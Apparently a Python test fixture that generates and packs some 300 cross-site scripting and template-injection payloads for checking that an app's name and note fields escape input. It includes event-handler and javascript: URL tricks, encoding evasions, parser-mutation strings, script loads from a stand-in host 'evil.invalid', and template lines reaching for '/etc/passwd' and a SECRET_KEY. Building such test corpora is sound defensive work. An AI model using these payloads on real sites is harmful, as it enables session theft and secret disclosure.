"""Three hundred texts that run a script where a page lets them: what attackers write into names and notes.

Each calls `ran(n)` with its own number; a test gives the page this function. Packed, one field holds several.
"""

from __future__ import annotations

from itertools import product

from duenotice.problems import unseen

BREAKOUTS = (
    *("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</option></select>", "</style>", "]]>"),
    *("</noscript>", "</td></tr></table>", "</pre></details>", '"></a>'),
)
TAGS = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg/onload={c}//",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<details open ontoggle={c}>x</details>",
    "<input autofocus onfocus={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}></audio>",
    "<ScRiPt>{c}</sCrIpT>",
    "<img/src=x/onerror={c}>",
    "<object data=x onerror={c}></object>",
    "<style onload={c}></style>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
)
ALONE = (
    # attributes
    '" autofocus onfocus={c} x="',
    "' autofocus onfocus={c} x='",
    '" onmouseover={c} style=position:fixed;inset:0 x="',
    "` onfocus={c} autofocus x=`",
    '"onfocus="{c}"autofocus="',
    "x onerror={c} src=x",
    '" type=image src=x onerror={c} x="',
    '" formaction=javascript:{c} x="',
    '"/><a autofocus tabindex=1 onfocus={c}>x</a>',
    # addresses
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "java\nscript:{c}",
    "\x01javascript:{c}",
    "javascript://%0a{c}",
    "javascript&colon;{c}",
    "&#106;avascript:{c}",
    "&#x6A&#x61vascript:{c}",
    "data:text/html,<script>parent.{c}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+{c}",
    "vbscript:{c}",
    "//evil.invalid/x.js?{c}",
    "<a href=javascript:{c}>x</a>",
    "<form action=javascript:{c}><button autofocus>x</button></form>",
    "<iframe src=javascript:parent.{c}></iframe>",
    "<embed src=javascript:{c}>",
    "<base href=javascript:{c}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<link rel=stylesheet href=javascript:{c}>",
    "<script src=data:text/javascript,{c}></script>",
    "<script src=//evil.invalid/{c}></script>",
    # templates
    "{{{{ {c} }}}}",
    "{{% {c} %}}",
    "{{{{ constructor.constructor('{c}')() }}}}",
    "{{% include '/etc/passwd' %}}{c}",
    "{{{{ settings.SECRET_KEY }}}}{c}",
    "${{{c}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "[[{c}]]",
    "{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} }} };{c}//')}}}}",
    "<div v-on:click={c} ng-init={c} x-init={c}>x</div>",
    # scripts and data of the page
    "';{c};//",
    '";{c};//',
    "\\';{c};//",
    "</script><script>{c}//",
    "<!--<script>{c}",
    "*/{c}/*",
    '{{"x": "</script><script>{c}</script>"}}',
    "\u2028{c}\u2029",
    # htmx, which every page has
    "<div hx-on:htmx:load={c}>x</div>",
    "<div hx-on--load={c} hx-trigger=load>x</div>",
    "<div hx-get=/ hx-trigger=load hx-vals='js:x:{c}'>x</div>",
    "<div hx-trigger='load[{c}]' hx-get=/>x</div>",
    "<div data-hx-on:load={c} data-hx-get=javascript:{c} data-hx-trigger=load>x</div>",
    "<div hx-get=data:text/html,<script>{c}</script> hx-trigger=load>x</div>",
    # what a parser makes of it afterwards
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={c}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={c}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    '<math><annotation-xml encoding="text/html"><style><img src onerror={c}></style></annotation-xml></math>',
    "<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror={c}&gt;</noscript></desc></svg>",
    '<a title="</a><img src=x onerror={c}>">x</a>',
    "<select><template><img src=x onerror={c}></template></select>",
    "<xmp><p title='</xmp><img src=x onerror={c}>'>",
    "<svg><title><img src=x onerror={c}></title></svg>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
    "<svg><script>{c}</script></svg>",
    "<svg><script>&#114;an(0)//{c}</script></svg>",
    "<svg><a xlink:href=javascript:{c}><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload={c}>#x></svg>",
    "<math href=javascript:{c}>x</math>",
    "<marquee onstart={c}>x</marquee>",
    "<body onload={c}>",
    "<body onpageshow={c}>",
    "<frameset onload={c}>",
    "<table background=javascript:{c}><td>x",
    "<template><script>{c}</script></template><img src=x onerror={c}>",
    # encodings
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={c}&amp;gt;",
    "%3Cscript%3E{c}%3C/script%3E",
    "%253Cscript%253E{c}%253C/script%253E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "\u02c2script\u02c3{c}\u02c2/script\u02c3",
    "<scr\u200bipt>{c}</scr\u200bipt>",
    "<\u00adimg src=x onerror={c}>",
    "\u202e<img src=x onerror={c}>",
    "<img\u00a0src=x\u00a0onerror={c}>",
    "<img\x0csrc=x\x0conerror={c}>",
    "<img src=x onerror\x0b={c}>",
    "<img src=x one\u0300rror={c}>",
    "\ufeff<script>{c}</script>",
    "<\u017fcript>{c}</\u017fcript>",
    "\u1780\u17d2\u1781<svg onload={c}>\u1796",
    "<img src=`x` onerror=`{c}`>",
    "<img src=x onerror=&#114;&#97;&#110;&#40;0&#41;//{c}>",
    "<a href=jav&#x09;ascript:{c}>x</a>",
    "<<script>{c}//<</script>",
    "<script\n>{c}</script\n>",
    "<script/x>{c}</script/x>",
    "<%00script>{c}</script>",
)


def _made() -> tuple[str, ...]:
    crossed = [before + tag for before, tag in product(BREAKOUTS, TAGS)]
    wanted = 300 - len(ALONE)
    step = len(crossed) / wanted if len(crossed) >= wanted else 0
    assert step, "too few payloads"
    chosen = [crossed[int(at * step)] for at in range(wanted)]
    forms = [each.replace("{c}", "\0").replace("{{", "{").replace("}}", "}") for each in ALONE]
    return tuple(
        text.replace("\0", "{c}").replace("{c}", f"ran({number})")
        for number, text in enumerate([*chosen, *forms])
    )


PAYLOADS = _made()
LONGEST = 480
"""Characters of a pack; a name holds 500."""


def packed(texts: tuple[str, ...], longest: int = LONGEST) -> list[str]:
    """All of them, in as few texts as it takes."""
    packs = [""]
    for text in texts:
        if packs[-1] and len(packs[-1]) + 1 + len(text) > longest:
            packs.append("")
        packs[-1] = f"{packs[-1]} {text}".strip(" ")
    return packs


def visible() -> tuple[str, ...]:
    """Those that a name can hold: on one line, with no character that cannot be seen."""
    return tuple(
        text
        for text in PAYLOADS
        if not any(unseen(char) for char in text) and len(text.splitlines()) == 1 and len(text) < LONGEST
    )
